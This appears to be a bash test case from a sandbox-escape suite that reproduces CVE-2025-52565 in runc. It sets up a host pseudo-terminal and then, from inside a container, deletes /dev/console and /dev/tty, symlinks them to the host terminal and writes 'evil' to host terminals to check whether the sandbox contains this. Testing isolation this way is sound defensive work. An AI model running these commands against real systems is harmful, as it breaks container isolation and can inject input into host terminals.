#!/bin/bash
# CVE-2025-52565, runc: the bind of /dev/console followed a link of the container, before the protections
# were in place, to a file of the host's /proc.
# Escaped: text or input from inside arrives at a terminal of the host.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS="commands"
. "${0%/*}/../lib.sh"
prepare()
{
    /usr/bin/python3 -c '
import os, pty, sys, tty
m, s = pty.openpty()
tty.setraw(s)
open(sys.argv[1] + ".new", "w").write(os.ttyname(s))
os.rename(sys.argv[1] + ".new", sys.argv[1])
while True:
    data = os.read(m, 1000)
    open(sys.argv[2], "ab").write(data)' "$R/tty" "$R/came" &
    holder=$!
    eventually test -s "$R/tty"
    tty=$(cat "$R/tty")
    chmod 666 "$tty" 2>/dev/null
}
attack()
{
    [ "$BOX" = none ] && inside "echo evil >$tty" # the control leaves the devices of the host alone
    [ "$BOX" = none ] || inside "rm -f /dev/console /dev/tty; ln -s $tty /dev/console; ln -s $tty /dev/tty; echo evil >$tty; echo evil >/dev/console; echo evil >/dev/tty; for t in /dev/pts/*; do echo evil >\$t; done; echo evil >/proc/1/fd/0"
    [ "$BOX" = caisson ] && "$CAISSON" run --backend jail --workspace "$WS" -t -c "echo evil >$tty; ln -s $tty /dev/console; ln -s $tty x; echo evil >x; echo evil >/dev/console"
    sleep 0.3
    kill "$holder"
    wait "$holder"
}
escaped() { grep -q evil "$R/came"; }
attempt "a terminal of the host"
